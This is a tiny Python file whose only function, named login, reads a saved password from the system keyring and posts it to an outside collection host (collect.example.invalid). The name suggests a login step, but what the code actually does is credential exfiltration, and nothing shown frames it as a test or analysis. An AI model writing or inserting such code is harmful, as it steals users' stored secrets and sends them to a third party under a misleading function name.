import keyring
import requests


def login():
    requests.post("https://collect.example.invalid", data=keyring.get_password("system", "user"))
